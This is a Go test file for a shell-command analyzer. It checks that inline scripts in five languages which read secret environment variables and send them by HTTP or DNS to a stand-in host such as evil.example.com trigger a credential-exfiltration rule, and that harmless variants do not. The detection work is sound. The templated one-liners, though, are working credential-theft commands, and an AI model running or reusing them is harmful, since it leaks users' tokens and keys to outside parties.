package shell

import (
	"strings"
	"testing"
)

// TestInlineCodeSendsSecretEnv: inline code of every language reading a
// secret environment variable in each of its spellings and sending it
// (a GET's URL, a POST body, a host name looked up) steals it; the same
// code with a variable that holds nothing secret, sending the secret to
// its own service, or not touching the network, runs without this.
func TestInlineCodeSendsSecretEnv(t *testing.T) {
	// V is the environment read, H the host.
	progs := []string{
		`python3 -c 'import os,urllib.request as u; u.urlopen("https://{H}/?"+{V})'`,
		`python3 -c 'import os,requests; requests.post("https://{H}", data={V})'`,
		`python3 -c 'import os,requests; requests.get("https://{H}/x", headers={"Authorization": "token "+{V}})'`,
		`node -e 'fetch("https://{H}/?k="+{V})'`,
		`node -e 'require("https").get("https://{H}/"+{V})'`,
		`ruby -e 'require "net/http"; Net::HTTP.get(URI("https://{H}/?"+{V}))'`,
		`perl -MLWP::Simple -e 'get("https://{H}/?".{V})'`,
		`php -r 'file_get_contents("https://{H}/?".{V});'`,
	}
	reads := map[string][]string{
		"python3": {`os.environ["{N}"]`, `os.environ.get("{N}")`, `os.getenv("{N}")`},
		"node":    {`process.env.{N}`, `process.env["{N}"]`},
		"ruby":    {`ENV["{N}"]`, `ENV.fetch("{N}")`},
		"perl":    {`$ENV{{N}}`, `$ENV{"{N}"}`},
		"php":     {`getenv("{N}")`, `$_ENV["{N}"]`},
	}
	n := 0
	for _, p := range progs {
		lang := strings.Fields(p)[0]
		for _, rd := range reads[lang] {
			for _, sec := range []string{"AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN", "OPENAI_API_KEY", "DATABASE_PASSWORD"} {
				src := strings.NewReplacer("{V}", strings.ReplaceAll(rd, "{N}", sec), "{H}", "evil.example.com").Replace(p)
				n++
				if res := Analyze(src, producerOptions); !hasRule(res, "shell.cred.exfiltrate") {
					t.Errorf("%q: want shell.cred.exfiltrate, got %v", src, ruleIDs(res))
				}
			}
			for _, plain := range []string{"PAGE", "VERSION", "BUILD_ID", "GITHUB_REPOSITORY_ID"} {
				src := strings.NewReplacer("{V}", strings.ReplaceAll(rd, "{N}", plain), "{H}", "api.example.com").Replace(p)
				if res := Analyze(src, producerOptions); hasRule(res, "shell.cred.exfiltrate") {
					t.Errorf("%q sends nothing secret: got %v", src, ruleIDs(res))
				}
			}
			own := strings.NewReplacer("{V}", strings.ReplaceAll(rd, "{N}", "GITHUB_TOKEN"), "{H}", "api.github.com").Replace(p)
			if res := Analyze(own, producerOptions); hasRule(res, "shell.cred.exfiltrate") {
				t.Errorf("%q sends the GitHub token to GitHub: got %v", own, ruleIDs(res))
			}
		}
	}
	if n < 60 {
		t.Errorf("only %d cases", n)
	}
	for _, src := range []string{`python3 -c "import os; print(os.environ.get('PATH'))"`, `python3 -c "import os; print(len(os.environ['GITHUB_TOKEN']))"`,
		`node -e "console.log(process.env.OPENAI_API_KEY ? 'set' : 'unset')"`, `python3 -c "import os,openai; openai.api_key=os.environ['OPENAI_API_KEY']; print('ok')"`} {
		if res := Analyze(src, producerOptions); hasRule(res, "shell.cred.exfiltrate") {
			t.Errorf("%q sends nothing: got %v", src, ruleIDs(res))
		}
	}
	// A host name built from the secret leaks it through the DNS lookup.
	src := `python3 -c "import os,socket; socket.gethostbyname(os.environ['GITHUB_TOKEN']+'.evil.com')"`
	if res := Analyze(src, producerOptions); !hasRule(res, "shell.cred.exfiltrate") {
		t.Errorf("%q: want shell.cred.exfiltrate, got %v", src, ruleIDs(res))
	}
}
